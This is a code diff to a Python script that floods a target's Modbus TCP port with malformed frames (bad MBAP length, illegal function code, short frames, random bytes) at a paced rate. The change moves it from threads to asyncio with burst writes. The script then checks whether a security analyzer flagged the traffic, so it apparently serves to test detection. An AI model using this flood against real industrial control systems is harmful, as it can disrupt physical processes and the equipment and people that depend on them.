@@ -1,10 +1,10 @@
 from __future__ import annotations
 
 import argparse
+import asyncio
 import json
-import os
-import socket
-import threading
+import random
+import struct
 import time
 from dataclasses import asdict, dataclass
 from datetime import datetime, timezone
@@ -16,48 +16,180 @@ import requests
 
 @dataclass
 class AttackStats:
+    # TCP connects; with bursts one connection carries many frames.
     attempted_connections: int
     successful_connections: int
     failed_connections: int
+    frames_attempted: int
+    frames_sent: int
+    frames_failed: int
     bytes_sent: int
     sample_errors: list[str]
 
 
+def _merge_attack_stats(per_worker: list[AttackStats], max_errors: int = 8) -> AttackStats:
+    errors = [error for stats in per_worker for error in stats.sample_errors]
+    return AttackStats(
+        attempted_connections=sum(stats.attempted_connections for stats in per_worker),
+        successful_connections=sum(stats.successful_connections for stats in per_worker),
+        failed_connections=sum(stats.failed_connections for stats in per_worker),
+        frames_attempted=sum(stats.frames_attempted for stats in per_worker),
+        frames_sent=sum(stats.frames_sent for stats in per_worker),
+        frames_failed=sum(stats.frames_failed for stats in per_worker),
+        bytes_sent=sum(stats.bytes_sent for stats in per_worker),
+        sample_errors=errors[:max_errors],
+    )
+
+
+# Every frame of a mode is identical apart from the 2-byte MBAP transaction id,
+# so each mode packs the id and its constant tail in a single struct call.
+_SHORT_FRAME = b"\x00\x01\x00"
+# MBAP length field (250) intentionally mismatches the 3-byte PDU that follows.
+_BAD_LENGTH_FRAME = struct.Struct(">H7s")
+_BAD_LENGTH_TAIL = b"\x00\x00\x00\xfa\x01\x03\x00"
+# protocol 0, length 6, unit 1, function 0x7F, data 0x0010 0x0001.
+_ILLEGAL_FUNCTION_FRAME = struct.Struct(">H10s")
+_ILLEGAL_FUNCTION_TAIL = b"\x00\x00\x00\x06\x01\x7f\x00\x10\x00\x01"
+
+
 def _build_payload(mode: str, transaction_id: int, payload_size: int) -> bytes:
     if mode == "random-bytes":
-        return os.urandom(max(payload_size, 1))
+        # Attack filler only; no need for os.urandom's cryptographic quality.
+        return random.randbytes(max(payload_size, 1))
 
     if mode == "modbus-short-frame":
-        return b"\x00\x01\x00"
+        return _SHORT_FRAME
 
     if mode == "modbus-bad-length":
-        # MBAP length field intentionally mismatches payload size.
-        header = transaction_id.to_bytes(2, "big") + b"\x00\x00" + (250).to_bytes(2, "big")
-        return header + b"\x01\x03\x00"
+        return _BAD_LENGTH_FRAME.pack(transaction_id & 0xFFFF, _BAD_LENGTH_TAIL)
 
     if mode == "modbus-illegal-function":
-        unit_id = 1
-        illegal_function = 0x7F
-        data = b"\x00\x10\x00\x01"
-        pdu = bytes([illegal_function]) + data
-        mbap_length = 1 + len(pdu)
-        header = (
-            transaction_id.to_bytes(2, "big")
-            + b"\x00\x00"
-            + mbap_length.to_bytes(2, "big")
-            + bytes([unit_id])
-        )
-        return header + pdu
+        return _ILLEGAL_FUNCTION_FRAME.pack(transaction_id & 0xFFFF, _ILLEGAL_FUNCTION_TAIL)
 
     raise ValueError(f"Unsupported payload mode: {mode}")
 
 
-def _send_attack_payload(host: str, port: int, payload: bytes, timeout_seconds: float) -> int:
-    with socket.create_connection((host, port), timeout=timeout_seconds) as sock:
-        sock.sendall(payload)
+async def _send_attack_payload(host: str, port: int, payload: bytes, timeout_seconds: float) -> int:
+    _, writer = await asyncio.wait_for(asyncio.open_connection(host, port), timeout_seconds)
+    try:
+        writer.write(payload)
+        await asyncio.wait_for(writer.drain(), timeout_seconds)
+    finally:
+        writer.close()
     return len(payload)
 
 
+async def _send_attack_burst(writer: asyncio.StreamWriter, frames: list[bytes], timeout_seconds: float) -> int:
+    # One buffer, one write: the kernel coalesces the frames into as few
+    # segments as it can instead of one syscall and handshake per frame.
+    burst = b"".join(frames)
+    writer.write(burst)
+    await asyncio.wait_for(writer.drain(), timeout_seconds)
+    return len(burst)
+
+
+class _FramePacer:
+    """Global frames-per-second budget shared by every worker coroutine.
+
+    Each burst reserves the next slot on a virtual clock, so the aggregate rate
+    holds regardless of how many workers there are. All workers run on one
+    event loop, so no locking is needed.
+    """
+
+    def __init__(self, frames_per_second: float) -> None:
+        self.frame_interval = 1.0 / frames_per_second
+        self._next_slot = time.monotonic()
+
+    async def wait(self, frame_count: int) -> None:
+        now = time.monotonic()
+        start = max(now, self._next_slot)
+        self._next_slot = start + frame_count * self.frame_interval
+        if start > now:
+            await asyncio.sleep(start - now)
+
+
+async def _attack_worker(
+    worker_id: int,
+    *,
+    args: argparse.Namespace,
+    pacer: _FramePacer,
+    frames_per_burst: int,
+    end_time: float,
+) -> AttackStats:
+    # Counters are coroutine locals and are returned once at the end.
+    transaction_id = worker_id * 10000
+    writer: asyncio.StreamWriter | None = None
+    connects = connected = 0
+    frames_attempted = frames_sent = frames_failed = bytes_total = 0
+    errors: list[str] = []
+
+    while time.monotonic() < end_time:
+        frames = []
+        for _ in range(frames_per_burst):
+            transaction_id += 1
+            frames.append(_build_payload(args.payload_mode, transaction_id, args.payload_size))
+
+        await pacer.wait(len(frames))
+        if time.monotonic() >= end_time:
+            break
+        frames_attempted += len(frames)
+
+        try:
+            if args.reconnect_per_packet:
+                connects += 1
+                bytes_sent = await _send_attack_payload(
+                    args.target_host,
+                    args.target_port,
+                    frames[0],
+                    args.connect_timeout_seconds,
+                )
+                connected += 1
+            else:
+                if writer is None:
+                    connects += 1
+                    _, writer = await asyncio.wait_for(
+                        asyncio.open_connection(args.target_host, args.target_port),
+                        args.connect_timeout_seconds,
+                    )
+                    connected += 1
+                bytes_sent = await _send_attack_burst(writer, frames, args.connect_timeout_seconds)
+            frames_sent += len(frames)
+            bytes_total += bytes_sent
+        except Exception as error:
+            # The target may drop the connection on malformed frames; reconnect next burst.
+            if writer is not None:
+                writer.close()
+                writer = None
+            frames_failed += len(frames)
+            if len(errors) < 2:
+                errors.append(str(error) or type(error).__name__)
+
+    if writer is not None:
+        writer.close()
+    return AttackStats(
+        attempted_connections=connects,
+        successful_connections=connected,
+        failed_connections=connects - connected,
+        frames_attempted=frames_attempted,
+        frames_sent=frames_sent,
+        frames_failed=frames_failed,
+        bytes_sent=bytes_total,
+        sample_errors=errors,
+    )
+
+
+async def _run_attack(args: argparse.Namespace, *, workers: int, burst_rate: float, end_time: float) -> AttackStats:
+    frames_per_burst = 1 if args.reconnect_per_packet else max(args.frames_per_burst, 1)
+    pacer = _FramePacer(burst_rate)
+    per_worker = await asyncio.gather(
+        *(
+            _attack_worker(index, args=args, pacer=pacer, frames_per_burst=frames_per_burst, end_time=end_time)
+            for index in range(workers)
+        )
+    )
+    return _merge_attack_stats(list(per_worker))
+
+
 def _extract_security_status(payload: dict[str, Any]) -> tuple[bool, bool, float | None]:
     security = payload.get("security") if isinstance(payload, dict) else None
     if not isinstance(security, dict):
@@ -76,6 +208,14 @@ def _extract_security_status(payload: dict[str, Any]) -> tuple[bool, bool, float
     return fresh, security_flag, age_seconds
 
 
+def _backoff_delay(failures: int, *, base_seconds: float, cap_seconds: float) -> float:
+    """``base_seconds`` while polls succeed; doubles per consecutive failure up to the cap, with ±20% jitter."""
+    if failures <= 0:
+        return base_seconds
+    delay = min(cap_seconds, base_seconds * 2**failures)
+    return delay + random.uniform(-0.2 * delay, 0.2 * delay)
+
+
 def _wait_for_security_flag(
     session: requests.Session,
     *,
@@ -85,6 +225,9 @@ def _wait_for_security_flag(
 ) -> tuple[bool, dict[str, Any] | None]:
     deadline = time.monotonic() + max(timeout_seconds, 0.0)
     last_payload: dict[str, Any] | None = None
+    base_seconds = max(poll_interval_seconds, 0.05)
+    cap_seconds = max(base_seconds, 2.0)
+    failures = 0
 
     while time.monotonic() <= deadline:
         try:
@@ -94,15 +237,19 @@ def _wait_for_security_flag(
             )
             response.raise_for_status()
             payload = response.json()
-            if isinstance(payload, dict):
-                last_payload = payload
-                fresh, security_flag, _ = _extract_security_status(payload)
-                if fresh and security_flag:
-                    return True, payload
+            if not isinstance(payload, dict):
+                raise ValueError("Unexpected /signals response payload")
+            last_payload = payload
+            failures = 0
+            fresh, security_flag, _ = _extract_security_status(payload)
+            if fresh and security_flag:
+                return True, payload
         except Exception:
-            pass
+            # Back off while the analyzer is down instead of hammering it.
+            failures += 1
 
-        time.sleep(max(poll_interval_seconds, 0.05))
+        delay = _backoff_delay(failures, base_seconds=base_seconds, cap_seconds=cap_seconds)
+        time.sleep(max(min(delay, deadline - time.monotonic()), 0.0))
 
     return False, last_payload
 
@@ -114,7 +261,7 @@ def parse_args() -> argparse.Namespace:
     parser.add_argument("--target-port", type=int, default=502)
     parser.add_argument("--duration-seconds", type=float, default=8.0)
     parser.add_argument("--burst-rate", type=float, default=120.0, help="Packets per second across all workers")
-    parser.add_argument("--workers", type=int, default=4)
+    parser.add_argument("--workers", type=int, default=4, help="Concurrent connections driven by one event loop")
     parser.add_argument(
         "--payload-mode",
         choices=["modbus-illegal-function", "modbus-bad-length", "modbus-short-frame", "random-bytes"],
@@ -122,6 +269,17 @@ def parse_args() -> argparse.Namespace:
     )
     parser.add_argument("--payload-size", type=int, default=32, help="Used when --payload-mode random-bytes")
     parser.add_argument("--connect-timeout-seconds", type=float, default=0.4)
+    parser.add_argument(
+        "--frames-per-burst",
+        type=int,
+        default=16,
+        help="Frames each worker writes per send on its persistent connection",
+    )
+    parser.add_argument(
+        "--reconnect-per-packet",
+        action="store_true",
+        help="Open a fresh TCP connection for every frame (stresses the handshake path)",
+    )
 
     parser.add_argument("--check-analyzer", action="store_true")
     parser.add_argument("--analyzer-base-url", default="http://localhost:8001")
@@ -139,65 +297,17 @@ def main() -> None:
 
     workers = max(args.workers, 1)
     burst_rate = max(args.burst_rate, 1.0)
-    per_worker_interval = workers / burst_rate
     duration_seconds = max(args.duration_seconds, 0.1)
 
     started_at = datetime.now(timezone.utc)
     end_time = time.monotonic() + duration_seconds
 
-    lock = threading.Lock()
-    stats = {
-        "attempted_connections": 0,
-        "successful_connections": 0,
-        "failed_connections": 0,
-        "bytes_sent": 0,
-        "sample_errors": [],
-    }
-
-    def worker_loop(worker_id: int) -> None:
-        transaction_id = worker_id * 10000
-        while time.monotonic() < end_time:
-            transaction_id += 1
-            payload = _build_payload(args.payload_mode, transaction_id, args.payload_size)
-
-            with lock:
-                stats["attempted_connections"] += 1
-
-            try:
-                bytes_sent = _send_attack_payload(
-                    args.target_host,
-                    args.target_port,
-                    payload,
-                    args.connect_timeout_seconds,
-                )
-                with lock:
-                    stats["successful_connections"] += 1
-                    stats["bytes_sent"] += bytes_sent
-            except Exception as error:
-                with lock:
-                    stats["failed_connections"] += 1
-                    if len(stats["sample_errors"]) < 8:
-                        stats["sample_errors"].append(str(error))
-
-            time.sleep(max(per_worker_interval, 0.0))
-
-    threads = [threading.Thread(target=worker_loop, args=(index,), daemon=True) for index in range(workers)]
-    for thread in threads:
-        thread.start()
-    for thread in threads:
-        thread.join()
-
-    attack_stats = AttackStats(
-        attempted_connections=int(stats["attempted_connections"]),
-        successful_connections=int(stats["successful_connections"]),
-        failed_connections=int(stats["failed_connections"]),
-        bytes_sent=int(stats["bytes_sent"]),
-        sample_errors=list(stats["sample_errors"]),
-    )
+    attack_stats = asyncio.run(_run_attack(args, workers=workers, burst_rate=burst_rate, end_time=end_time))
 
     print(
-        f"Attack completed: attempted={attack_stats.attempted_connections} "
-        f"success={attack_stats.successful_connections} failed={attack_stats.failed_connections} "
+        f"Attack completed: frames={attack_stats.frames_attempted} "
+        f"sent={attack_stats.frames_sent} failed={attack_stats.frames_failed} "
+        f"connections={attack_stats.successful_connections}/{attack_stats.attempted_connections} "
         f"bytes={attack_stats.bytes_sent}"
     )
 